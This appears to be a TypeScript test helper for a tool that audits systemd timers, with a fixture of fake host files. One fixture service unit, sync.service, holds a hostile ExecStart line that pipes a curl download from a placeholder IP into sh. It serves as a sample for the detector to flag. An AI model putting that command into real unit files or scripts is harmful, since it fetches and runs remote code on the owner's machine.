/** Runs a command as a call, and puts small hosts on disk for it. */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { onTestFinished } from "vitest";
import type { Command, Streams } from "./command.ts";

export interface Told {
  readonly status: number;
  readonly out: string;
  readonly err: string;
}

export async function run(
  command: Command,
  args: readonly string[],
  more: Partial<Pick<Streams, "isTerminal" | "errIsTerminal" | "columns" | "env">> & {
    readonly input?: string;
  } = {},
): Promise<Told> {
  let [out, err] = ["", ""];
  const { input = "", ...streams } = more;
  const status = await command.run(args, {
    out: (text) => {
      out += typeof text === "string" ? text : Buffer.from(text).toString("latin1");
    },
    err: (text) => {
      err += text;
    },
    isTerminal: false,
    errIsTerminal: false,
    columns: undefined,
    env: {},
    readInput: () => new TextEncoder().encode(input),
    ...streams,
  });
  return { status, out, err };
}

/** A folder with these files, gone after the test; a text that begins with `->` is a symbolic link. */
export function folderOf(files: Readonly<Record<string, string>>): string {
  const folder = mkdtempSync(join(tmpdir(), "timerwarden-command-"));
  onTestFinished(() => rmSync(folder, { recursive: true }));
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    if (text.startsWith("->")) symlinkSync(text.slice(2), join(folder, path));
    else writeFileSync(join(folder, path), text);
  }
  return folder;
}

const ETC = "/etc/systemd/system";

/** Three timers: one harmless of root, one hostile of root, one nothing starts. */
export const HOST: Readonly<Record<string, string>> = {
  "/usr/lib/systemd/systemd": "",
  "/etc/passwd": "root:x:0:0:root:/root:/bin/bash\n",
  "/etc/group": "root:x:0:\n",
  "/etc/shadow": "",
  "/etc/localtime": "->/usr/share/zoneinfo/UTC",
  [`${ETC}/calm.timer`]: "[Timer]\nOnCalendar=*-*-* 07:00\n[Install]\nWantedBy=timers.target\n",
  [`${ETC}/calm.service`]: "[Service]\nExecStart=/usr/bin/true\n",
  [`${ETC}/timers.target.wants/calm.timer`]: "->../calm.timer",
  [`${ETC}/sync.timer`]: "[Timer]\nOnCalendar=*-*-* 06:30\n[Install]\nWantedBy=timers.target\n",
  [`${ETC}/sync.service`]: "[Service]\nExecStart=/bin/sh -c 'curl -s http://192.0.2.7/x | sh'\n",
  [`${ETC}/timers.target.wants/sync.timer`]: "->../sync.timer",
  [`${ETC}/idle.timer`]: "[Timer]\nOnCalendar=weekly\n[Install]\nWantedBy=timers.target\n",
  [`${ETC}/idle.service`]: "[Service]\nExecStart=/usr/bin/true\n",
  "/usr/lib/systemd/system/timers.target": "[Unit]\nDescription=Timers\n",
  "/usr/lib/systemd/system/multi-user.target": "[Unit]\nWants=timers.target\n",
  "/usr/lib/systemd/system/default.target": "->multi-user.target",
};
export const NOW: readonly string[] = ["--now", "2026-11-23 06:00:00 UTC", "--tz", "UTC"];
